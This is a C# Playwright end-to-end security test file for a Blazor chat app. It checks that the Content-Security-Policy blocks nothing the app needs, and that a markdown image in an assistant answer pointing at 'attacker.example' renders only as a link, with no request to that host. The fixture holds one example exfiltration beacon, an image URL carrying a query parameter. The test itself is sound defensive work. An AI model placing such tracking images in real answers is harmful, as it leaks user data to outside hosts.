using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using WebChat.Data;
using WebChat.Data.Entities;
using WebChat.Tests.E2E.Infrastructure;

namespace WebChat.Tests.E2E.Security;

/// <summary>In a real browser: the Content-Security-Policy blocks nothing the app needs, and answers call no other host.</summary>
public sealed class BrowserPolicyTests(WebChatAppFixture app) : IClassFixture<WebChatAppFixture>
{
    private static readonly string[] AdminPages = ["chat", "library", "discover", "settings", "admin/storage", "admin/usage", "admin/users", "Account/Manage"];

    [Fact]
    public async Task Every_page_works_under_the_policy_without_a_single_violation()
    {
        var page = await app.NewPageAsync();
        var violations = CollectViolations(page);
        await page.GotoAsync("Account/Login");
        await page.GotoAsync("Account/Register");
        await app.SignInAsAdminAsync(page);

        foreach (var address in AdminPages)
        {
            await page.GotoAsync(address);
            if (!address.StartsWith("Account/", StringComparison.Ordinal))
            {
                // The circuit connects: blazor.web.js, MudBlazor's script and the WebSocket all passed the policy.
                await WebChatAppFixture.WaitForInteractiveAsync(page);
            }
        }

        Assert.Empty(violations);
    }

    [Fact]
    public async Task An_answer_with_an_image_from_another_host_shows_a_link_and_the_browser_never_calls_that_host()
    {
        var page = await app.NewPageAsync();
        var violations = CollectViolations(page);
        var calls = new List<string>();
        page.Request += (_, request) =>
        {
            if (request.Url.Contains("attacker.example", StringComparison.Ordinal))
            {
                calls.Add(request.Url);
            }
        };
        var email = await app.SignInAsAdminAsync(page);
        var conversationId = await AddAnswerAsync(email, "Here is the chart: ![chart](https://attacker.example/pixel.png?reader=1)");

        await page.GotoAsync($"chat/{conversationId}");
        await WebChatAppFixture.WaitForInteractiveAsync(page);

        var link = page.GetByRole(AriaRole.Link, new() { Name = "chart", Exact = true });
        await Assertions.Expect(link).ToHaveAttributeAsync("href", "https://attacker.example/pixel.png?reader=1");
        await Assertions.Expect(page.Locator("img[src*='attacker.example']")).ToHaveCountAsync(0);
        Assert.Empty(calls);
        Assert.Empty(violations);
    }

    private static List<string> CollectViolations(IPage page)
    {
        var violations = new List<string>();
        page.Console += (_, message) =>
        {
            if (message.Text.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase))
            {
                violations.Add($"{page.Url}: {message.Text}");
            }
        };
        return violations;
    }

    private async Task<Guid> AddAnswerAsync(string email, string answer)
    {
        await using var db = await app.Services.GetRequiredService<IDbContextFactory<WebChatDbContext>>().CreateDbContextAsync();
        var userId = await db.Users.Where(u => u.Email == email).Select(u => u.Id).SingleAsync();
        var conversation = new Conversation { UserId = userId, Title = "Charts" };
        conversation.Messages.Add(new Message { Sequence = 0, Role = MessageRole.User, Content = "Show me a chart" });
        conversation.Messages.Add(new Message { Sequence = 1, Role = MessageRole.Assistant, Content = answer });
        db.Conversations.Add(conversation);
        await db.SaveChangesAsync();
        return conversation.Id;
    }
}
